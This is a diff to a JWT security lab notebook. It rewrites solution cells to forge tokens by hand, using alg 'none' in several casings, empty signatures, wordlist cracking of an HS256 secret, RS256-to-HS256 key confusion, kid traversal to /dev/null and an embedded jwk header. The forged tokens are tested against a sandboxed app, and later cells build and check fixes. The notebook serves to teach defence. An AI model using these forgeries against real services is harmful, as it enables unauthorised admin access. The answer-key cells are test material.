@@ -24,13 +24,16 @@
 # different ways, then write the token handling that stops every one of them.
 
 # %%
+import base64
+import hashlib
+import hmac
+import json
 import time
 
 import httpx
 import jwt
 
 import labkit
-from labkit.attacks import jwt as jwt_attacks
 from labkit.wordlists import common_passwords
 
 lab = labkit.open_lab("02-jwt")
@@ -67,7 +70,8 @@ access = response.json()["accessToken"]
 refresh = response.cookies["refreshToken"]
 print(response.headers["set-cookie"][:60], "...")
 for name, token in [("access", access), ("refresh", refresh)]:
-    header, claims = jwt_attacks.decode_unverified(token)
+    # reading a JWT needs no key: PyJWT decodes the first two segments without verifying
+    header, claims = jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
     print(f"{name:>8}: {header}\n          {claims}")
 
 
@@ -84,7 +88,7 @@ print(lab.client.get("/api/admin/users", headers=bearer(access)).json())
 # `/api/admin/users` (or `/api/me`) accepts. We will reuse Carol's claims with one change:
 
 # %%
-admin_claims = {**jwt_attacks.decode_unverified(access)[1], "role": "admin"}
+admin_claims = {**jwt.decode(access, options={"verify_signature": False}), "role": "admin"}
 admin_claims
 
 # %% [markdown]
@@ -92,17 +96,31 @@ admin_claims
 #
 # JWS defines an "unsecured" algorithm, `none`, with an empty signature (RFC 7518 §3.6). A
 # verifier that lets the header pick the algorithm will happily "verify" it. Sloppy filters
-# compare case-sensitively, so attackers send `None`, `NONE`, `nOnE` too. Build four admin
-# tokens, one per casing, with `jwt_attacks.forge(header, claims)`.
+# compare case-sensitively, so attackers send `None`, `NONE`, `nOnE` too.
+#
+# No JWT library will write such a token for you, and you need none: a segment is
+# `base64url(json)` without the `=` padding (RFC 7515 §2). Build four tokens that carry
+# `admin_claims`, one per casing of `none`, with an empty signature (the token still ends in
+# a `.`). Success: `/api/admin/users` answers 200 to each. Keep them in `none_tokens`; the
+# helpers you write here (encoding a segment) serve the next attacks too.
 
 # %% labkit={"answer": "alg-none"}
 ### BEGIN SOLUTION
-none_tokens = [jwt_attacks.forge({"alg": alg, "typ": "JWT"}, admin_claims) for alg in ["none", "None", "NONE", "nOnE"]]
+def b64url(data: bytes) -> str:
+    """base64url without padding (RFC 7515 §2)."""
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+def segment(obj: dict) -> str:
+    return b64url(json.dumps(obj).encode())
+
+
+none_tokens = [f"{segment({'alg': alg, 'typ': 'JWT'})}.{segment(admin_claims)}." for alg in ["none", "None", "NONE", "nOnE"]]
 ### STUB
-none_tokens = []  # TODO: four admin tokens, alg "none" in four casings
+none_tokens = []  # TODO: four admin tokens, alg "none" in four casings, empty signature
 ### END SOLUTION
 for token in none_tokens:
-    print(jwt_attacks.decode_unverified(token)[0], lab.client.get("/api/admin/users", headers=bearer(token)).status_code)
+    print(jwt.get_unverified_header(token), lab.client.get("/api/admin/users", headers=bearer(token)).status_code)
 
 # %% labkit={"check": "alg-none"}
 lab.check("alg-none", none_tokens)
@@ -113,20 +131,24 @@ lab.check("alg-none", none_tokens)
 # Changing a claim breaks the signature, and the app notices...
 
 # %%
-tampered = jwt_attacks.tamper(access, role="admin")
+head, _, signature = access.split(".")
+admin_body = base64.urlsafe_b64encode(json.dumps(admin_claims).encode()).rstrip(b"=").decode()
+tampered = f"{head}.{admin_body}.{signature}"  # the old signature, new claims
 lab.client.get("/api/admin/users", headers=bearer(tampered)).json()
 
 # %% [markdown]
 # ...unless there is no signature to check. This verifier treats an empty signature as a
 # "legacy unsigned token" (Java's "psychic signatures", CVE-2022-21449, accepted an all-zero
-# ECDSA signature in the same spirit). Keep alg `RS256`, set the role to admin and send a
-# *null* signature with `jwt_attacks.with_signature(token, b"")`.
+# ECDSA signature in the same spirit). Keep your access token's header (alg `RS256`), put
+# `admin_claims` in the claims and send no signature at all. Success: `/api/admin/users`
+# answers 200. Keep the token in `null_signed`.
 
 # %% labkit={"answer": "tampered-role"}
 ### BEGIN SOLUTION
-null_signed = jwt_attacks.with_signature(tampered, b"")
+null_signed = f"{access.split('.')[0]}.{segment(admin_claims)}."
+print(lab.client.get("/api/admin/users", headers=bearer(null_signed)).status_code)
 ### STUB
-null_signed = None  # TODO: the tampered token with an empty signature
+null_signed = None  # TODO: your access token's header, admin claims, an empty signature
 ### END SOLUTION
 
 # %% labkit={"check": "tampered-role"}
@@ -138,8 +160,15 @@ lab.check("tampered-role", null_signed)
 # compares all 32 bytes, in constant time):
 
 # %%
+def unb64url(text: str) -> bytes:
+    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
+
+
 for byte in (2, 20):
-    flipped = jwt_attacks.flip_signature_bit(refresh, byte=byte)
+    signing_input, sig = refresh.rsplit(".", 1)
+    flipped_sig = bytearray(unb64url(sig))
+    flipped_sig[byte] ^= 1
+    flipped = signing_input + "." + base64.urlsafe_b64encode(bytes(flipped_sig)).rstrip(b"=").decode()
     print(f"bit flipped in signature byte {byte:>2}:", lab.client.get("/api/me", headers=bearer(flipped)).status_code)
 
 # %% [markdown]
@@ -147,17 +176,30 @@ for byte in (2, 20):
 #
 # An HS256 token is an HMAC of its first two segments under a secret. Anyone holding one
 # token can guess secrets **offline**: no request, no rate limit. RFC 8725 §3.5 and RFC 7518
-# §3.2 ask for a key of at least 256 random bits; a human-chosen password is not one. Crack
-# your refresh token with the shipped wordlist (30,000 common passwords), then mint an admin
-# token with the secret you found. Store it in `minted`.
+# §3.2 ask for a key of at least 256 random bits; a human-chosen password is not one.
+#
+# Your refresh token is HS256: its signature is `HMAC-SHA256(secret, "header.claims")`.
+# Find the secret among the shipped wordlist's 30,000 common passwords
+# (`common_passwords()`), then mint a token with `admin_claims` signed with it. Success: the
+# secret is printed and `/api/admin/users` answers 200 to your token. Keep it in `minted`.
 
 # %% labkit={"answer": "crack-secret"}
 ### BEGIN SOLUTION
-secret = jwt_attacks.crack_hs256(refresh, common_passwords())
+def hs256(header: dict, claims: dict, key: bytes) -> str:
+    signing_input = f"{segment(header)}.{segment(claims)}"
+    return f"{signing_input}.{b64url(hmac.new(key, signing_input.encode(), hashlib.sha256).digest())}"
+
+
+signing_input, signature = refresh.rsplit(".", 1)
+target = unb64url(signature)
+secret = next(
+    word for word in common_passwords()
+    if hmac.compare_digest(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), target)
+)  # fmt: skip
 print("the secret is", repr(secret))
-minted = jwt_attacks.forge({"alg": "HS256", "typ": "JWT"}, admin_claims, secret.encode())
+minted = hs256({"alg": "HS256", "typ": "JWT"}, admin_claims, secret.encode())
 ### STUB
-minted = None  # TODO: crack the refresh token's secret, then forge an admin token with it
+minted = None  # TODO: crack the refresh token's secret, then mint an admin token with it
 ### END SOLUTION
 
 # %% labkit={"check": "crack-secret"}
@@ -169,8 +211,12 @@ lab.check("crack-secret", minted)
 # Access tokens are RS256: signed with a private key, verified with a *public* one that the
 # app publishes at `/jwks.json` for other services. This verifier loads "the key for this
 # kid" as bytes and then runs whatever `alg` the header names. Tell it `HS256`, and it uses
-# the public key file as an HMAC secret — a secret everybody has. Rebuild the PEM file from
-# the JWKS with `jwt_attacks.pem_from_jwk`, keep `kid: "access-rs256"` and sign with it.
+# the public key file as an HMAC secret — a secret everybody has.
+#
+# Rebuild the PEM file (SubjectPublicKeyInfo, as servers store it) from the JWKS — PyJWT's
+# `jwt.algorithms.RSAAlgorithm.from_jwk` and `cryptography`'s `public_bytes` do it — keep
+# `kid: "access-rs256"`, set `alg: HS256` and sign `admin_claims` with the PEM's bytes as the
+# HMAC key. Success: `/api/admin/users` answers 200. Keep the token in `confused`.
 
 # %%
 jwks = lab.client.get("/jwks.json").json()
@@ -178,8 +224,12 @@ jwks["keys"][0]["kid"], jwks["keys"][0]["n"][:40] + "..."
 
 # %% labkit={"answer": "key-confusion"}
 ### BEGIN SOLUTION
-public_pem = jwt_attacks.pem_from_jwk(jwks["keys"][0])
-confused = jwt_attacks.forge({"alg": "HS256", "typ": "JWT", "kid": "access-rs256"}, admin_claims, public_pem)
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+
+public_key = jwt.algorithms.RSAAlgorithm.from_jwk(jwks["keys"][0])
+public_pem = public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+confused = hs256({"alg": "HS256", "typ": "JWT", "kid": "access-rs256"}, admin_claims, public_pem)
+print(lab.client.get("/api/admin/users", headers=bearer(confused)).status_code)
 ### STUB
 confused = None  # TODO: an HS256 admin token signed with the public key's PEM bytes
 ### END SOLUTION
@@ -198,7 +248,7 @@ lab.check("key-confusion", confused)
 # %%
 log = lab.client.get("/api/_lab/token-log").json()
 for entry in log:
-    claims = jwt_attacks.decode_unverified(entry["authorization"].split()[1])[1]
+    claims = jwt.decode(entry["authorization"].split()[1], options={"verify_signature": False})
     print(entry["time"], entry["kind"], claims)
 
 # %% [markdown]
@@ -208,7 +258,7 @@ for entry in log:
 # %% labkit={"answer": "expired-token"}
 ### BEGIN SOLUTION
 expired = next(e["authorization"].split()[1] for e in log if e["kind"] == "expired")
-print(time.time() - jwt_attacks.decode_unverified(expired)[1]["exp"], "seconds past exp")
+print(time.time() - jwt.decode(expired, options={"verify_signature": False})["exp"], "seconds past exp")
 ### STUB
 expired = None  # TODO: the expired token from the log
 ### END SOLUTION
@@ -250,11 +300,14 @@ lab.check("refresh-as-access", as_access)
 # The app reads the key named by `kid` from a file in its key directory. The `kid` is just a
 # string in a header you write (RFC 8725 §3.10: received data is input, sanitise it).
 # `../../../../../../../../dev/null` climbs to the root and names a file with *no bytes in it*:
-# an HMAC key you know. Sign an admin token with the empty key `b""`.
+# an HMAC key you know. Mint an HS256 token with `admin_claims` whose `kid` reads that file,
+# signed with the key that file holds. Success: `/api/admin/users` answers 200. Keep it in
+# `kid_token`.
 
 # %% labkit={"answer": "kid-injection"}
 ### BEGIN SOLUTION
-kid_token = jwt_attacks.forge({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"}, admin_claims, b"")
+kid_token = hs256({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"}, admin_claims, b"")
+print(lab.client.get("/api/admin/users", headers=bearer(kid_token)).status_code)
 ### STUB
 kid_token = None  # TODO: an admin token whose kid reads /dev/null, signed with b""
 ### END SOLUTION
@@ -270,13 +323,19 @@ lab.check("kid-injection", kid_token)
 #
 # JWS allows the header to carry the verification key itself (`jwk`, RFC 7515 §4.1.3) or a
 # URL to fetch it from (`jku`, §4.1.2). A verifier that trusts them checks the token against
-# the attacker's key (CVE-2018-0114 in Cisco's node-jose). Make a key pair, put its public
-# half in the header and sign with the private half.
+# the attacker's key (CVE-2018-0114 in Cisco's node-jose). Make an RSA key pair
+# (`cryptography`), put its public half in the header as a JWK and sign `admin_claims` with
+# the private half (RS256). Success: `/api/admin/users` answers 200. Keep it in
+# `own_key_token`.
 
 # %% labkit={"answer": "embedded-jwk"}
 ### BEGIN SOLUTION
-my_key = jwt_attacks.new_rsa_key()
-own_key_token = jwt_attacks.forge({"alg": "RS256", "typ": "JWT", "jwk": jwt_attacks.rsa_jwk(my_key)}, admin_claims, my_key)
+from cryptography.hazmat.primitives.asymmetric import rsa
+
+my_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+my_jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(my_key.public_key()))
+own_key_token = jwt.encode(admin_claims, my_key, algorithm="RS256", headers={"jwk": my_jwk})
+print(lab.client.get("/api/admin/users", headers=bearer(own_key_token)).status_code)
 ### STUB
 own_key_token = None  # TODO: an RS256 admin token carrying your own public key in "jwk"
 ### END SOLUTION
@@ -286,9 +345,11 @@ lab.check("embedded-jwk", own_key_token)
 
 # %% [markdown]
 # `jku` works the same way, with one more step: the attacker hosts the JWKS. Here the
-# "attacker's server" is a second sandbox on loopback:
+# "attacker's server" is a second sandbox on loopback (`jwks_app` serves a JWKS; `forge` and
+# `rsa_jwk` do what you wrote above):
 
 # %%
+from labkit.attacks import jwt as jwt_attacks
 from labkit.sandbox.server import Sandbox
 
 attacker_key = jwt_attacks.new_rsa_key()
@@ -339,15 +400,20 @@ lab.check("refresh-after-logout", bob_refresh)
 # it; `jwt.ExpiredSignatureError` becomes `Token expired`). Anything else you raise is a bug
 # and shows as a 500.
 #
-# The secure reference is `labkit.patterns.tokens.TokenService`: it refuses a short key —
+# The lab's app makes its own keys for your functions. To try them here first, make a set of
+# the same shape (`secrets.token_bytes(32)` is 256 random bits, the HS256 minimum — not a
+# word from a list, as Attack 3 showed):
 
 # %%
-from labkit.patterns.tokens import TokenKeys
+import secrets
 
-try:
-    TokenKeys(access=b"changeme", refresh=b"also-changeme")
-except ValueError as error:
-    print("ValueError:", error)
+keys = {
+    "access": secrets.token_bytes(32),
+    "refresh": secrets.token_bytes(32),
+    "issuer": "https://auth.labkit.example",
+    "audience": "https://api.labkit.example",
+}
+print({name: value if isinstance(value, str) else f"{len(value)} random bytes" for name, value in keys.items()})
 
 # %% [markdown]
 # ### Fix 1 — the refresh cookie
@@ -391,8 +457,6 @@ lab.check("cookie", refresh_cookie=refresh_cookie)
 # <!-- labkit:rules tokens -->
 
 # %% labkit={"answer": "tokens"}
-import secrets
-
 ACCESS_SECONDS, REFRESH_SECONDS = 15 * 60, 7 * 24 * 3600
 TYPES = {"access": "at+jwt", "refresh": "refresh+jwt"}
 LIFETIMES = {"access": ACCESS_SECONDS, "refresh": REFRESH_SECONDS}
@@ -431,8 +495,24 @@ def verify_token(token: str, typ: str, keys: dict) -> dict:
     ### END SOLUTION
 
 
+# %% [markdown]
+# Your own forgeries from the Attack cells go in too: against your fix, every one of them
+# must now be refused.
+
+# %%
+my_forgeries = {
+    "Attack 1 (alg none)": none_tokens,
+    "Attack 2 (no signature)": null_signed,
+    "Attack 3 (cracked secret)": minted,
+    "Attack 4 (key confusion)": confused,
+    "Attacks 5-6 (expired, no exp)": [expired, forever],
+    "Attack 7 (refresh as access)": as_access,
+    "Attack 8 (kid traversal)": kid_token,
+    "Attack 9 (own jwk)": own_key_token,
+}
+
 # %% labkit={"check": "tokens"}
-lab.check("tokens", issue_tokens=issue_tokens, verify_token=verify_token)
+lab.check("tokens", my_forgeries, issue_tokens=issue_tokens, verify_token=verify_token)
 
 # %% [markdown]
 # ### Fix 3 — logout and rotation
@@ -483,12 +563,14 @@ lab.check("revocation", issue_tokens=issue_tokens, verify_token=verify_token, ch
 # a wordlist crack of your key, key confusion with the published public key, `kid`
 # traversal, `jwk` and `jku` headers, the expired and exp-less tokens, a refresh token as an
 # access token, refresh reuse and logout — while Alice and Carol log in, refresh and work.
+# Your own forged tokens (`my_forgeries`) go in with them.
 #
 # <!-- labkit:rules verify -->
 
 # %% labkit={"check": "verify"}
 lab.check(
     "verify",
+    my_forgeries,
     issue_tokens=issue_tokens,
     verify_token=verify_token,
     check_not_revoked=check_not_revoked,
@@ -501,33 +583,49 @@ lab.check(
 #
 # With one shared HMAC secret, every service that can *verify* tokens can also *mint* them.
 # When several services check tokens, sign with a private key (ES256 here, RFC 7518 §3.4),
-# publish the public keys as a JWKS (RFC 7517 §5), and let each service fetch them. The
-# reference pattern does both: `TokenKeys.generate(asymmetric=True)` and `JwksVerifier`
-# (PyJWT's `PyJWKClient`, pinned to ES256).
+# publish the public keys as a JWKS (RFC 7517 §5), and let each service fetch them with
+# PyJWT's `PyJWKClient` — and pin the algorithm to ES256, so Attack 4's trick has nothing to
+# work with:
 
 # %%
+from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 from fastapi import FastAPI
 
-from labkit.patterns.tokens import JwksVerifier, TokenError, TokenService
+from labkit.sandbox.server import Sandbox
 
-issuer_keys = TokenKeys.generate(asymmetric=True)
-auth_service = TokenService(issuer_keys)
+auth_key = ec.generate_private_key(ec.SECP256R1())  # the auth service alone holds it
+auth_jwk = {**json.loads(jwt.algorithms.ECAlgorithm.to_jwk(auth_key.public_key())), "kid": "es256-1", "use": "sig", "alg": "ES256"}
 auth_app = FastAPI()
-auth_app.get("/jwks.json")(issuer_keys.jwks)
+auth_app.get("/jwks.json")(lambda: {"keys": [auth_jwk]})
+now = int(time.time())
+es_claims = {"sub": "7", "role": "editor", "iss": keys["issuer"], "aud": keys["audience"], "iat": now, "exp": now + 900}
+es_token = jwt.encode(es_claims, auth_key, algorithm="ES256", headers={"kid": "es256-1", "typ": "at+jwt"})
+
+
+def orders_service_verify(token: str, jwks_client: jwt.PyJWKClient) -> dict:
+    """What another service runs: the key from the JWKS, the algorithm from its own code."""
+    key = jwks_client.get_signing_key_from_jwt(token).key
+    return jwt.decode(token, key, algorithms=["ES256"], issuer=keys["issuer"], audience=keys["audience"],
+                      options={"require": ["exp", "iat", "sub", "iss", "aud"]})  # fmt: skip
+
+
+def b64(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
 
 with Sandbox(auth_app, name="auth-service") as auth_box:
-    orders_service = JwksVerifier(f"{auth_box.url}/jwks.json", issuer=issuer_keys.issuer, audience=issuer_keys.audience)
-    token = auth_service.issue_tokens({"id": 7, "role": "editor", "tokenVersion": 0})["accessToken"]
-    print("header:", jwt.get_unverified_header(token))
-    print("the orders service accepts it:", orders_service.verify(token)["role"])
+    jwks_client = jwt.PyJWKClient(f"{auth_box.url}/jwks.json")
+    print("header:", jwt.get_unverified_header(es_token))
+    print("the orders service accepts it:", orders_service_verify(es_token, jwks_client)["role"])
     # key confusion again: HS256 "signed" with the published public key
-    public_pem = issuer_keys.access.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
-    forged = jwt_attacks.forge({"alg": "HS256", "typ": "at+jwt", "kid": issuer_keys.kid}, jwt_attacks.decode_unverified(token)[1], public_pem)
+    es_pem = auth_key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
+    signing_input = f"{b64(json.dumps({'alg': 'HS256', 'typ': 'at+jwt', 'kid': 'es256-1'}).encode())}.{b64(json.dumps(es_claims).encode())}"
+    forged = f"{signing_input}.{b64(hmac.new(es_pem, signing_input.encode(), hashlib.sha256).digest())}"
     try:
-        orders_service.verify(forged)
-    except TokenError as error:
-        print("an HS256 forgery with the public key:", error.body, "-", error.detail)
+        orders_service_verify(forged, jwks_client)
+    except jwt.InvalidTokenError as error:
+        print("an HS256 forgery with the public key:", type(error).__name__, "-", error)
 
 # %% [markdown]
 # ## Recap
